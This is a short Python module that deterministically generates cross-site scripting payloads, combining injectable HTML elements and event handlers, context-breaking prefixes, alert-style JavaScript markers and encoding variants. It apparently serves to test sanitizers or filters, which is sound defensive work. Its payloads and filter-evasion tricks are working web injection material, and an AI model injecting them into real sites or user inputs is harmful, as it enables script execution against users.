"""Texts that would run if a page took them for markup: made from parts, the same for the same number."""

import random
from itertools import product

ELEMENTS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>", "<body onload={}>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>", "<a href=javascript:{}>x</a>",
    "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<math><a xlink:href=javascript:{}>x",
    "<style>@import 'javascript:{}'</style>", "<base href='javascript:{}//'>", "<meta http-equiv=refresh content='0;javascript:{}'>",
    "<template><script>{}</script></template>", "<form action=javascript:{}><button>x", "<video><source onerror={}>",
    "<marquee onstart={}>", "<x onclick={} tabindex=0>x</x>", "<link rel=stylesheet href=javascript:{}>",
)  # fmt: skip
BEFORE = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "&quot;>",
    '\\">',
    "`>",
    "{{",
    "</option></select>",
)
CODES = ("alert(1)", "window.ran=1", "alert`1`", "top['al'+'ert'](1)", "eval('alert(1)')")
WAYS = (
    str,
    str.upper,
    lambda text: text.replace("<", "&lt;"),
    lambda text: text.replace("<", "＜"),
    lambda text: text.replace("<", "\u003c\u200b"),
)


def payloads(count: int = 500) -> list[str]:
    """So many different texts, spread over elements, contexts, codes and spellings."""
    made = [way(before + element.format(code)) for element, before, code, way in product(ELEMENTS, BEFORE, CODES, WAYS)]
    different = list(dict.fromkeys(made))
    random.Random(20261119).shuffle(different)
    return [different[number % len(different)] for number in range(count)]
